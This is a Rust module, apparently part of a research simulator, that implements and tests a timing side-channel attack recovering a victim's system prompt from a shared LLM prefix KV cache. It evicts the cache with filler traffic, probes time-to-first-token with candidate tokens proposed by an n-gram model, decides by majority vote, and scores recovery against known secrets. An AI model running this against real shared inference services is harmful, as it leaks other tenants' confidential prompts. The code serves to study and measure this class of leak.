//! Prompt-stealing over the prefix-KV timing channel.
//!
//! The attacker recovers a victim's system prompt one token (or one K-block)
//! at a time: flush the shared cache with filler traffic, wait for the victim
//! to re-prime it, then compare the TTFT of a candidate-extended prompt
//! against a reference that ends in a token which is never cached. A majority
//! vote over repeated paired probes decides each guess, and an accepted guess
//! is cross-checked with a second construction that appends a padding token
//! after the candidate.
//!
//! Guess quality comes from an add-alpha smoothed n-gram model trained on
//! public prompts from the same distribution; rejected guesses are penalized
//! (halved weight per miss, or excluded outright) before the next draw.

use std::collections::BTreeMap;

use rand::Rng;
use rand_chacha::ChaCha8Rng;
use serde::{Deserialize, Serialize};

use crate::corpus::{self, DUMMY_TOKEN, RARE_TOKENS};
use crate::engine::ChatRequest;
use crate::error::{Error, Result};
use crate::probe::{early_stop_vote, is_hit, VoteOutcome};
use crate::rng::rng_from;
use crate::token::{TokenId, Vocab};
use crate::wire::EngineClient;

/// Sentinel used to left-pad contexts shorter than the model order. Never a
/// real token: the vocabulary is far smaller than u32::MAX.
pub const BOS: TokenId = TokenId::MAX;

#[derive(Debug, Clone)]
pub struct NGramPredictor {
    order: usize,
    alpha: f64,
    counts: BTreeMap<Vec<TokenId>, BTreeMap<TokenId, u32>>,
    totals: BTreeMap<Vec<TokenId>, u32>,
    candidates: Vec<TokenId>,
}

impl NGramPredictor {
    /// Estimates an order-`order` model (context of `order - 1` tokens) with
    /// add-`alpha` smoothing over the tokens observed in training.
    pub fn train<'a>(
        order: usize,
        alpha: f64,
        seqs: impl IntoIterator<Item = &'a [TokenId]>,
    ) -> Result<Self> {
        if order < 2 {
            return Err(Error::InvalidConfig(format!("n-gram order {order} must be >= 2")));
        }
        if !(alpha > 0.0 && alpha.is_finite()) {
            return Err(Error::InvalidConfig(format!("alpha {alpha} must be positive")));
        }
        let mut counts: BTreeMap<Vec<TokenId>, BTreeMap<TokenId, u32>> = BTreeMap::new();
        let mut totals: BTreeMap<Vec<TokenId>, u32> = BTreeMap::new();
        let mut seen: std::collections::BTreeSet<TokenId> = Default::default();
        for seq in seqs {
            seen.extend(seq.iter().copied());
            let mut padded = vec![BOS; order - 1];
            padded.extend_from_slice(seq);
            for w in padded.windows(order) {
                let ctx = w[..order - 1].to_vec();
                let tok = w[order - 1];
                *counts.entry(ctx.clone()).or_default().entry(tok).or_insert(0) += 1;
                *totals.entry(ctx).or_insert(0) += 1;
            }
        }
        if seen.is_empty() {
            return Err(Error::EmptyCorpus);
        }
        Ok(NGramPredictor {
            order,
            alpha,
            counts,
            totals,
            candidates: seen.into_iter().collect(),
        })
    }

    pub fn order(&self) -> usize {
        self.order
    }

    pub fn candidates(&self) -> &[TokenId] {
        &self.candidates
    }

    /// Model context for the next position after `recovered`.
    fn context_of(&self, recovered: &[TokenId]) -> Vec<TokenId> {
        let need = self.order - 1;
        let mut ctx = Vec::with_capacity(need);
        if recovered.len() < need {
            ctx.extend(std::iter::repeat(BOS).take(need - recovered.len()));
            ctx.extend_from_slice(recovered);
        } else {
            ctx.extend_from_slice(&recovered[recovered.len() - need..]);
        }
        ctx
    }

    pub fn prob(&self, recovered: &[TokenId], token: TokenId) -> f64 {
        let ctx = self.context_of(recovered);
        let c = self
            .counts
            .get(&ctx)
            .and_then(|m| m.get(&token))
            .copied()
            .unwrap_or(0) as f64;
        let total = self.totals.get(&ctx).copied().unwrap_or(0) as f64;
        (c + self.alpha) / (total + self.alpha * self.candidates.len() as f64)
    }

    /// Candidates by descending probability; ties break toward smaller ids.
    pub fn ranked(&self, recovered: &[TokenId]) -> Vec<(TokenId, f64)> {
        let mut out: Vec<(TokenId, f64)> =
            self.candidates.iter().map(|&t| (t, self.prob(recovered, t))).collect();
        out.sort_by(|a, b| b.1.partial_cmp(&a.1).unwrap().then(a.0.cmp(&b.0)));
        out
    }

    /// Draws the next token. Weights are `p^(1/temperature)` times the
    /// penalty multiplier; temperature zero means penalized argmax (ties to
    /// the smallest id). Returns None when every candidate is excluded.
    pub fn sample_next(
        &self,
        recovered: &[TokenId],
        temperature: f64,
        penalties: &PenaltyState,
        rng: &mut ChaCha8Rng,
    ) -> Option<TokenId> {
        if temperature == 0.0 {
            let mut best: Option<(TokenId, f64)> = None;
            for &t in &self.candidates {
                let w = self.prob(recovered, t) * penalties.multiplier(t);
                if w > 0.0 && best.map_or(true, |(_, bw)| w > bw) {
                    best = Some((t, w));
                }
            }
            return best.map(|(t, _)| t);
        }
        let weights: Vec<f64> = self
            .candidates
            .iter()
            .map(|&t| self.prob(recovered, t).powf(1.0 / temperature) * penalties.multiplier(t))
            .collect();
        let total: f64 = weights.iter().sum();
        if total <= 0.0 {
            return None;
        }
        let mut draw = rng.gen_range(0.0..total);
        for (&t, &w) in self.candidates.iter().zip(&weights) {
            if draw < w {
                return Some(t);
            }
            draw -= w;
        }
        // Float summation slack: fall back to the last positive weight.
        self.candidates
            .iter()
            .zip(&weights)
            .rev()
            .find(|(_, &w)| w > 0.0)
            .map(|(&t, _)| t)
    }

    /// Proposes the next `k`-token block by chaining single-token draws, then
    /// rejection-sampling against the tuple penalty. The first attempt uses
    /// the caller's temperature; retries heat up to at least 1.0 so an
    /// excluded argmax chain does not repeat forever. Gives up after 64
    /// attempts.
    pub fn predict_next_k(
        &self,
        recovered: &[TokenId],
        k: usize,
        temperature: f64,
        penalties: &TuplePenaltyState,
        rng: &mut ChaCha8Rng,
    ) -> Option<Vec<TokenId>> {
        assert!(k >= 1);
        let no_token_penalties = PenaltyState::default();
        for attempt in 0..64 {
            let temp = if attempt == 0 { temperature } else { temperature.max(1.0) };
            let mut stem = recovered.to_vec();
            let mut tuple = Vec::with_capacity(k);
            for _ in 0..k {
                let t = self.sample_next(&stem, temp, &no_token_penalties, rng)?;
                tuple.push(t);
                stem.push(t);
            }
            if rng.gen_range(0.0..1.0) < penalties.multiplier(&tuple) {
                return Some(tuple);
            }
        }
        None
    }

    /// Complete `len`-token continuations in descending joint-probability
    /// order (ties toward the lexically smaller tuple), at most `limit` of
    /// them. Extending a tuple can only shrink its probability, so
    /// uniform-cost expansion pops complete tuples in exact global order.
    /// At `len` 1 this reproduces argmax-with-exclusion.
    pub fn ranked_tuples(
        &self,
        recovered: &[TokenId],
        len: usize,
        limit: usize,
    ) -> Vec<Vec<TokenId>> {
        self.ranked_tuples_floor(recovered, len, limit, 0.0)
    }

    /// Like [`Self::ranked_tuples`], but also stops at the first tuple whose
    /// joint probability drops below `rel_floor` times the best tuple's — a
    /// confident context yields a short list, a flat one runs to `limit`.
    /// Sits above the smoothing tier, which absolute mass coverage cannot do.
    pub fn ranked_tuples_floor(
        &self,
        recovered: &[TokenId],
        len: usize,
        limit: usize,
        rel_floor: f64,
    ) -> Vec<Vec<TokenId>> {
        assert!(len >= 1);
        // Max-heap entry: higher log-probability first, then smaller tuple.
        struct Partial {
            logp: f64,
            tuple: Vec<TokenId>,
        }
        impl PartialEq for Partial {
            fn eq(&self, other: &Self) -> bool {
                self.logp == other.logp && self.tuple == other.tuple
            }
        }
        impl Eq for Partial {}
        impl PartialOrd for Partial {
            fn partial_cmp(&self, other: &Self) -> Option<std::cmp::Ordering> {
                Some(self.cmp(other))
            }
        }
        impl Ord for Partial {
            fn cmp(&self, other: &Self) -> std::cmp::Ordering {
                // Smoothed probabilities are strictly positive: logp finite.
                self.logp
                    .partial_cmp(&other.logp)
                    .unwrap()
                    .then_with(|| other.tuple.cmp(&self.tuple))
            }
        }

        let mut heap = std::collections::BinaryHeap::new();
        heap.push(Partial { logp: 0.0, tuple: Vec::new() });
        let mut out = Vec::with_capacity(limit.min(64));
        let mut logp_cut = f64::NEG_INFINITY;
        let mut stem = Vec::with_capacity(recovered.len() + len);
        while let Some(p) = heap.pop() {
            // Pops arrive in descending order and extending a tuple only
            // lowers logp, so the first pop under the cutoff ends the scan.
            if out.len() == limit || p.logp < logp_cut {
                break;
            }
            if p.tuple.len() == len {
                if out.is_empty() {
                    logp_cut = p.logp + rel_floor.ln();
                }
                out.push(p.tuple);
                continue;
            }
            stem.clear();
            stem.extend_from_slice(recovered);
            stem.extend_from_slice(&p.tuple);
            for &t in &self.candidates {
                let mut tuple = p.tuple.clone();
                tuple.push(t);
                heap.push(Partial { logp: p.logp + self.prob(&stem, t).ln(), tuple });
            }
        }
        out
    }
}

/// Per-position memory of rejected single-token guesses: each miss halves a
/// candidate's weight, exclusion zeroes it.
#[derive(Debug, Clone, Default)]
pub struct PenaltyState {
    misses: BTreeMap<TokenId, u32>,
}

impl PenaltyState {
    pub fn record_miss(&mut self, token: TokenId) {
        let m = self.misses.entry(token).or_insert(0);
        *m = m.saturating_add(1);
    }

    pub fn exclude(&mut self, token: TokenId) {
        self.misses.insert(token, u32::MAX);
    }

    pub fn multiplier(&self, token: TokenId) -> f64 {
        match self.misses.get(&token) {
            None => 1.0,
            Some(&m) if m >= 1024 => 0.0,
            Some(&m) => 2f64.powi(-(m as i32)),
        }
    }
}

/// Tuple-level analogue for K-block guessing.
#[derive(Debug, Clone, Default)]
pub struct TuplePenaltyState {
    misses: BTreeMap<Vec<TokenId>, u32>,
}

impl TuplePenaltyState {
    pub fn record_miss(&mut self, tuple: &[TokenId]) {
        let m = self.misses.entry(tuple.to_vec()).or_insert(0);
        *m = m.saturating_add(1);
    }

    pub fn exclude(&mut self, tuple: &[TokenId]) {
        self.misses.insert(tuple.to_vec(), u32::MAX);
    }

    pub fn multiplier(&self, tuple: &[TokenId]) -> f64 {
        match self.misses.get(tuple) {
            None => 1.0,
            Some(&m) if m >= 1024 => 0.0,
            Some(&m) => 2f64.powi(-(m as i32)),
        }
    }
}

#[derive(Debug, Clone, Copy, Serialize, Deserialize)]
#[serde(default)]
pub struct EvictConfig {
    pub filler_count: usize,
    pub filler_tokens: usize,
}

impl Default for EvictConfig {
    fn default() -> Self {
        // 15 x 200 = 3000 tokens: comfortably past the default 2048 budget.
        EvictConfig { filler_count: 15, filler_tokens: 200 }
    }
}

#[derive(Debug, Clone, Serialize, Deserialize)]
#[serde(default)]
pub struct PsaConfig {
    pub seed: u64,
    /// Paired-difference decision threshold (negative: candidate must be
    /// measurably faster). The default is calibrated for the default
    /// per-token gap at the (0.88, 0.10) single-probe operating point.
    pub theta_ms: f64,
    pub vote_n: u32,
    pub vote_k: u32,
    /// Confirm accepted guesses with the padded second construction.
    pub cross_check: bool,
    pub max_guesses_per_position: u32,
    pub max_positions: usize,
    pub evict: EvictConfig,
    pub predictor_order: usize,
    pub predictor_alpha: f64,
    pub temperature: f64,
}

impl Default for PsaConfig {
    fn default() -> Self {
        PsaConfig {
            seed: 1001,
            theta_ms: -0.234645,
            vote_n: 10,
            vote_k: 5,
            cross_check: true,
            max_guesses_per_position: 12,
            max_positions: 160,
            evict: EvictConfig::default(),
            predictor_order: 3,
            predictor_alpha: 0.01,
            temperature: 0.0,
        }
    }
}

#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
#[serde(tag = "reason", rename_all = "snake_case")]
pub enum StopReason {
    /// Every candidate at some position was rejected — either the prompt
    /// ended or the channel lost the trail.
    GuessesExhausted { position: usize },
    /// The per-prompt query budget ran out mid-block (granularity sweeps).
    BudgetExhausted { position: usize },
    PositionCap,
}

#[derive(Debug, Clone, Serialize)]
pub struct GuessTrace {
    pub candidate: TokenId,
    pub vote: VoteOutcome,
    pub cross: Option<VoteOutcome>,
    pub accepted: bool,
}

#[derive(Debug, Clone, Serialize)]
pub struct PositionTrace {
    pub position: usize,
    pub guesses: Vec<GuessTrace>,
    pub committed: Option<TokenId>,
}

#[derive(Debug, Clone, Serialize)]
pub struct PsaReport {
    pub recovered: Vec<TokenId>,
    pub stop: StopReason,
    pub positions_committed: usize,
    /// All attacker-issued requests (fillers and paired measurements).
    pub attacker_queries_total: u64,
    /// Attacker queries spent at positions that ended in a commit.
    pub queries_at_committed: u64,
    pub queries_per_recovered_token: f64,
    pub victim_triggers: u64,
    pub trace: Vec<PositionTrace>,
}

/// Non-reserved token pool the filler generator draws from.
pub(crate) fn filler_pool(vocab: &Vocab) -> Vec<TokenId> {
    let reserved = corpus::reserved_ids(vocab);
    (0..vocab.len() as TokenId).filter(|t| !reserved.contains(t)).collect()
}

/// Pushes every earlier tenant out of the KV tree with random filler
/// prompts whose total token count exceeds the cache budget.
pub fn evict_kv<C: EngineClient + ?Sized>(
    client: &mut C,
    vocab: &Vocab,
    pool: &[TokenId],
    cfg: EvictConfig,
    rng: &mut ChaCha8Rng,
) -> Result<()> {
    if pool.is_empty() {
        return Err(Error::EmptyCorpus);
    }
    for _ in 0..cfg.filler_count {
        let toks: Vec<TokenId> =
            (0..cfg.filler_tokens).map(|_| pool[rng.gen_range(0..pool.len())]).collect();
        let mut req = ChatRequest::system_only(vocab.decode(&toks)?);
        req.max_tokens = Some(0);
        client.chat(&req)?;
    }
    Ok(())
}

pub(crate) fn measure_ttft<C: EngineClient + ?Sized>(
    client: &mut C,
    vocab: &Vocab,
    tokens: &[TokenId],
) -> Result<f64> {
    let mut req = ChatRequest::system_only(vocab.decode(tokens)?);
    req.max_tokens = Some(1);
    Ok(client.chat(&req)?.ttft_ms)
}

/// TTFT difference between a candidate-terminated prompt and its
/// rare-terminated reference, measured back to back.
pub(crate) fn measure_delta<C: EngineClient + ?Sized>(
    client: &mut C,
    vocab: &Vocab,
    target: &[TokenId],
    reference: &[TokenId],
) -> Result<f64> {
    let t = measure_ttft(client, vocab, target)?;
    let r = measure_ttft(client, vocab, reference)?;
    Ok(t - r)
}

/// Runs the full recovery loop against a victim whose prompt re-enters the
/// cache whenever `victim_trigger` fires. The attacker only ever observes
/// TTFTs through `client`.
pub fn recover_prompt<C: EngineClient + ?Sized>(
    client: &mut C,
    victim_trigger: &mut dyn FnMut() -> Result<()>,
    predictor: &NGramPredictor,
    vocab: &Vocab,
    cfg: &PsaConfig,
) -> Result<PsaReport> {
    let pool = filler_pool(vocab);
    let rare_main = vocab
        .id(RARE_TOKENS[0])
        .ok_or_else(|| Error::UnknownToken(RARE_TOKENS[0].into()))?;
    let rare_cross = vocab
        .id(RARE_TOKENS[1])
        .ok_or_else(|| Error::UnknownToken(RARE_TOKENS[1].into()))?;
    let dummy = vocab
        .id(DUMMY_TOKEN)
        .ok_or_else(|| Error::UnknownToken(DUMMY_TOKEN.into()))?;
    let mut rng = rng_from(cfg.seed, "psa.attack");
    let queries_at_start = client.queries_sent();
    let mut victim_triggers = 0u64;
    let mut recovered: Vec<TokenId> = Vec::new();
    let mut trace: Vec<PositionTrace> = Vec::new();
    let mut queries_at_committed = 0u64;

    let stop = loop {
        if recovered.len() >= cfg.max_positions {
            break StopReason::PositionCap;
        }
        let position = recovered.len();
        let queries_before = client.queries_sent();
        let mut penalties = PenaltyState::default();
        let mut ptrace = PositionTrace { position, guesses: Vec::new(), committed: None };
        let mut committed = None;

        for _ in 0..cfg.max_guesses_per_position {
            let Some(cand) =
                predictor.sample_next(&recovered, cfg.temperature, &penalties, &mut rng)
            else {
                break;
            };
            let vote = early_stop_vote(cfg.vote_n, cfg.vote_k, |_| {
                evict_kv(client, vocab, &pool, cfg.evict, &mut rng)?;
                victim_trigger()?;
                victim_triggers += 1;
                let mut target = recovered.clone();
                target.push(cand);
                let mut reference = recovered.clone();
                reference.push(rare_main);
                let delta = measure_delta(client, vocab, &target, &reference)?;
                Ok(is_hit(delta, cfg.theta_ms))
            })?;

            let mut accepted = vote.hit;
            let mut cross = None;
            if vote.hit && cfg.cross_check {
                let n2 = (cfg.vote_n / 2).max(3);
                let k2 = n2 / 2 + 1;
                let confirm = early_stop_vote(n2, k2, |_| {
                    evict_kv(client, vocab, &pool, cfg.evict, &mut rng)?;
                    victim_trigger()?;
                    victim_triggers += 1;
                    let mut target = recovered.clone();
                    target.push(cand);
                    target.push(dummy);
                    let mut reference = recovered.clone();
                    reference.push(rare_cross);
                    reference.push(dummy);
                    let delta = measure_delta(client, vocab, &target, &reference)?;
                    Ok(is_hit(delta, cfg.theta_ms))
                })?;
                accepted = confirm.hit;
                cross = Some(confirm);
            }
            ptrace.guesses.push(GuessTrace { candidate: cand, vote, cross, accepted });
            if accepted {
                committed = Some(cand);
                break;
            }
            penalties.record_miss(cand);
        }

        match committed {
            Some(c) => {
                recovered.push(c);
                ptrace.committed = Some(c);
                queries_at_committed += client.queries_sent() - queries_before;
                trace.push(ptrace);
            }
            None => {
                trace.push(ptrace);
                break StopReason::GuessesExhausted { position };
            }
        }
    };

    let positions_committed = recovered.len();
    let queries_per_recovered_token = if positions_committed == 0 {
        f64::INFINITY
    } else {
        queries_at_committed as f64 / positions_committed as f64
    };
    Ok(PsaReport {
        recovered,
        stop,
        positions_committed,
        attacker_queries_total: client.queries_sent() - queries_at_start,
        queries_at_committed,
        queries_per_recovered_token,
        victim_triggers,
        trace,
    })
}

#[derive(Debug, Clone, Copy, Serialize)]
pub struct PsaScore {
    /// Committed positions whose token matches the secret.
    pub matches: usize,
    pub committed: usize,
    pub exact_prefix_len: usize,
    pub secret_len: usize,
}

impl PsaScore {
    pub fn token_accuracy(&self) -> f64 {
        if self.committed == 0 {
            0.0
        } else {
            self.matches as f64 / self.committed as f64
        }
    }
}

pub fn score_recovery(recovered: &[TokenId], secret: &[TokenId]) -> PsaScore {
    let matches = recovered.iter().zip(secret).filter(|(a, b)| a == b).count();
    let exact_prefix_len =
        recovered.iter().zip(secret).take_while(|(a, b)| a == b).count();
    PsaScore {
        matches,
        committed: recovered.len(),
        exact_prefix_len,
        secret_len: secret.len(),
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::engine::{ChatMessage, Engine, EngineConfig, ServedFrom};
    use crate::wire::{EngineClient, InProcessClient};

    fn tiny_predictor() -> NGramPredictor {
        // Two training sequences diverging after [1, 2].
        let a = [1u32, 2, 3, 4];
        let b = [1u32, 2, 3, 5];
        let c = [1u32, 2, 4, 4];
        NGramPredictor::train(3, 0.01, [&a[..], &b[..], &c[..]]).unwrap()
    }

    #[test]
    fn probabilities_follow_add_alpha_smoothing() {
        let p = tiny_predictor();
        // Context [1,2]: successors 3 (twice), 4 (once); candidates {1..5}.
        let denom = 3.0 + 0.01 * 5.0;
        assert!((p.prob(&[1, 2], 3) - (2.0 + 0.01) / denom).abs() < 1e-12);
        assert!((p.prob(&[1, 2], 4) - (1.0 + 0.01) / denom).abs() < 1e-12);
        assert!((p.prob(&[1, 2], 5) - 0.01 / denom).abs() < 1e-12);
        // Unseen context: uniform over candidates.
        assert!((p.prob(&[5, 5], 1) - 0.2).abs() < 1e-12);
    }

    #[test]
    fn empty_context_uses_bos_padding() {
        let p = tiny_predictor();
        let ranked = p.ranked(&[]);
        assert_eq!(ranked[0].0, 1, "every sequence starts with 1");
        let after_one = p.ranked(&[1]);
        assert_eq!(after_one[0].0, 2);
    }

    #[test]
    fn argmax_ties_break_to_smallest_id() {
        let a = [1u32, 2];
        let b = [1u32, 3];
        let p = NGramPredictor::train(3, 0.01, [&a[..], &b[..]]).unwrap();
        // After [1]: both 2 and 3 seen once.
        let mut rng = rng_from(1, "tie");
        let pick = p.sample_next(&[1], 0.0, &PenaltyState::default(), &mut rng);
        assert_eq!(pick, Some(2));
    }

    #[test]
    fn exclusion_moves_argmax_to_the_runner_up() {
        let p = tiny_predictor();
        let mut rng = rng_from(1, "pen");
        let mut pen = PenaltyState::default();
        assert_eq!(p.sample_next(&[1, 2], 0.0, &pen, &mut rng), Some(3));
        pen.exclude(3);
        assert_eq!(p.sample_next(&[1, 2], 0.0, &pen, &mut rng), Some(4));
        pen.exclude(4);
        assert_eq!(p.sample_next(&[1, 2], 0.0, &pen, &mut rng), Some(1));
        for t in [1, 2, 5] {
            pen.exclude(t);
        }
        assert_eq!(p.sample_next(&[1, 2], 0.0, &pen, &mut rng), None);
    }

    #[test]
    fn soft_misses_halve_sampling_weight() {
        let p = tiny_predictor();
        let mut pen = PenaltyState::default();
        pen.record_miss(3);
        assert!((pen.multiplier(3) - 0.5).abs() < 1e-12);
        pen.record_miss(3);
        assert!((pen.multiplier(3) - 0.25).abs() < 1e-12);
        // One halving is enough to flip this argmax: p(3) ~ 2x p(4).
        let mut rng = rng_from(1, "soft");
        pen.record_miss(3);
        assert_eq!(p.sample_next(&[1, 2], 0.0, &pen, &mut rng), Some(4));
    }

    #[test]
    fn temperature_sampling_tracks_probabilities() {
        let p = tiny_predictor();
        let mut rng = rng_from(9, "temp");
        let pen = PenaltyState::default();
        let mut counts = BTreeMap::new();
        for _ in 0..4000 {
            let t = p.sample_next(&[1, 2], 1.0, &pen, &mut rng).unwrap();
            *counts.entry(t).or_insert(0u32) += 1;
        }
        let c3 = counts[&3] as f64;
        let c4 = counts[&4] as f64;
        // True ratio is about 2:1; accept a loose band.
        assert!(c3 / c4 > 1.5 && c3 / c4 < 2.7, "ratio {}", c3 / c4);
    }

    #[test]
    fn k_block_prediction_chains_and_respects_exclusion() {
        let p = tiny_predictor();
        let mut rng = rng_from(4, "kblock");
        let mut pen = TuplePenaltyState::default();
        let first = p.predict_next_k(&[1], 2, 0.0, &pen, &mut rng).unwrap();
        assert_eq!(first, vec![2, 3], "argmax chain");
        pen.exclude(&first);
        let second = p.predict_next_k(&[1], 2, 0.0, &pen, &mut rng).unwrap();
        assert_ne!(second, first, "excluded tuple must not be proposed again");
    }

    fn quiet_engine() -> Engine {
        let mut cfg = EngineConfig::default();
        cfg.latency.noise_sigma_ms = 0.0;
        Engine::from_config(cfg).unwrap()
    }

    #[test]
    fn eviction_flushes_earlier_tenants() {
        let mut client = InProcessClient::new(quiet_engine());
        let shared = client.shared();
        let victim = ChatRequest::system_only("you plan balanced travel routes for every trip");
        shared.lock().unwrap().handle(&victim).unwrap();
        let vocab = shared.lock().unwrap().vocab().clone();
        let pool = filler_pool(&vocab);
        let mut rng = rng_from(2, "evict");
        evict_kv(&mut client, &vocab, &pool, EvictConfig::default(), &mut rng).unwrap();
        assert_eq!(client.queries_sent(), 15);
        let again = shared.lock().unwrap().handle(&victim).unwrap();
        match again.served_from {
            ServedFrom::Prefill { hit_tokens, .. } => {
                assert!(hit_tokens <= 1, "only the role marker may survive, got {hit_tokens}");
            }
            other => panic!("unexpected serving path {other:?}"),
        }
    }

    /// Noise-free channel, tiny hand-built predictor: recovery must be exact
    /// and the query ledger must match the protocol arithmetic.
    #[test]
    fn recovers_a_short_secret_exactly_on_a_clean_channel() {
        let mut client = InProcessClient::new(quiet_engine());
        let shared = client.shared();
        let vocab = shared.lock().unwrap().vocab().clone();
        let secret_text = "you plan balanced travel routes for every trip";
        let secret = vocab.encode(secret_text).unwrap();
        // Train on the secret itself plus decoys from the same register.
        let decoy1 = vocab.encode("you prepare structured meeting agendas for busy teams").unwrap();
        let decoy2 = vocab.encode("keep daily budgets visible inside every plan").unwrap();
        let predictor =
            NGramPredictor::train(3, 0.01, [&secret[..], &decoy1[..], &decoy2[..]]).unwrap();
        let victim_req = ChatRequest::system_only(secret_text);
        let trigger_engine = shared.clone();
        let mut trigger = move || {
            trigger_engine.lock().unwrap().handle(&victim_req)?;
            Ok(())
        };
        let cfg = PsaConfig { max_positions: 20, ..PsaConfig::default() };
        let report =
            recover_prompt(&mut client, &mut trigger, &predictor, &vocab, &cfg).unwrap();
        assert_eq!(report.recovered, secret);
        assert!(matches!(report.stop, StopReason::GuessesExhausted { position } if position == secret.len()));
        let score = score_recovery(&report.recovered, &secret);
        assert_eq!(score.token_accuracy(), 1.0);
        assert_eq!(score.exact_prefix_len, secret.len());
        // Per committed position on a clean channel with rank-1 guesses:
        // main vote stops at 5 hits, cross vote at 3, 17 attacker requests
        // per sample (15 fillers + 2 measurements) = 136.
        assert_eq!(report.queries_per_recovered_token, 136.0);
        assert_eq!(report.positions_committed, secret.len());
        assert!(report.attacker_queries_total > report.queries_at_committed);
    }

    #[test]
    fn wrong_commits_are_prevented_by_the_reference_construction() {
        // A predictor that has never seen the secret still must not commit
        // wrong tokens on a clean channel: every candidate votes miss.
        let mut client = InProcessClient::new(quiet_engine());
        let shared = client.shared();
        let vocab = shared.lock().unwrap().vocab().clone();
        let secret = vocab.encode("never promise refunds on nonrefundable fares").unwrap();
        let unrelated = vocab.encode("ask pupils reflective questions after group work").unwrap();
        let predictor = NGramPredictor::train(3, 0.01, [&unrelated[..]]).unwrap();
        let victim_req =
            ChatRequest::system_only("never promise refunds on nonrefundable fares");
        let trigger_engine = shared.clone();
        let mut trigger = move || {
            trigger_engine.lock().unwrap().handle(&victim_req)?;
            Ok(())
        };
        let cfg = PsaConfig { max_guesses_per_position: 3, ..PsaConfig::default() };
        let report =
            recover_prompt(&mut client, &mut trigger, &predictor, &vocab, &cfg).unwrap();
        assert!(matches!(report.stop, StopReason::GuessesExhausted { position: 0 }));
        assert_eq!(report.positions_committed, 0);
        assert_eq!(score_recovery(&report.recovered, &secret).matches, 0);
    }

    #[test]
    fn filler_pool_excludes_reserved_tokens() {
        let vocab = corpus::build_vocab();
        let pool = filler_pool(&vocab);
        for word in corpus::reserved_words() {
            let id = vocab.id(word).unwrap();
            assert!(!pool.contains(&id), "{word} must not appear in fillers");
        }
        assert!(!pool.is_empty());
    }

    // Corpus-scale profile at the calibrated operating point; the numbers
    // feed the end-to-end regime checks, so rerun with --ignored --nocapture
    // after touching the corpus, the predictor, or the vote schedule.
    #[test]
    #[ignore]
    fn print_corpus_attack_profile() {
        use crate::corpus::{build_corpus, CorpusConfig};
        use crate::wire::FlushScope;

        let corpus = build_corpus(&CorpusConfig::default()).unwrap();
        let train: Vec<&[TokenId]> = corpus.attacker_prompts().map(|v| &v[..]).collect();
        let predictor = NGramPredictor::train(2, 0.01, train).unwrap();

        for sigma in [0.129466, 0.0] {
            let mut base = EngineConfig::default();
            base.semantic.enabled = false;
            base.latency.noise_sigma_ms = sigma;
            let engine = Engine::from_config(base).unwrap();
            let vocab = engine.vocab().clone();
            let mut attacker = InProcessClient::new(engine);
            let shared = attacker.shared();

            let (mut correct, mut committed, mut total_len) = (0usize, 0usize, 0usize);
            let (mut cost, mut wrong_commits, mut truncated) = (0u64, 0usize, 0usize);
            for secret in corpus.victim_prompts() {
                attacker.flush(FlushScope::Kv).unwrap();
                let victim_req = ChatRequest::system_only(vocab.decode(secret).unwrap());
                let trigger_engine = shared.clone();
                let mut trigger = move || {
                    trigger_engine.lock().unwrap().handle(&victim_req)?;
                    Ok(())
                };
                let cfg = PsaConfig {
                    max_guesses_per_position: 80,
                    max_positions: secret.len(),
                    ..PsaConfig::default()
                };
                let report =
                    recover_prompt(&mut attacker, &mut trigger, &predictor, &vocab, &cfg)
                        .unwrap();
                let score = score_recovery(&report.recovered, secret);
                correct += score.matches;
                committed += score.committed;
                total_len += secret.len();
                cost += report.queries_at_committed;
                wrong_commits += score.committed - score.matches;
                truncated += matches!(report.stop, StopReason::GuessesExhausted { .. }) as usize;
            }
            println!(
                "sigma={sigma} acc={:.4} rate={:.3} q/rec={:.1} wrong={wrong_commits} truncated={truncated}",
                correct as f64 / committed as f64,
                correct as f64 / total_len as f64,
                cost as f64 / correct as f64,
            );
        }
    }

    #[test]
    fn messages_compose_against_the_victim_template() {
        // The attacker's system-role content lines up token-for-token with
        // the victim's own system prompt underneath the shared marker.
        let vocab = corpus::build_vocab();
        let secret = vocab.encode("you plan balanced travel routes").unwrap();
        let content = vocab.decode(&secret).unwrap();
        let msg = ChatMessage::system(content);
        let flat = crate::engine::flatten_prompt(&[msg]).unwrap();
        let ids = vocab.encode(&flat).unwrap();
        assert_eq!(ids[0], vocab.id(corpus::SYSTEM_MARKER).unwrap());
        assert_eq!(&ids[1..], &secret[..]);
    }
}
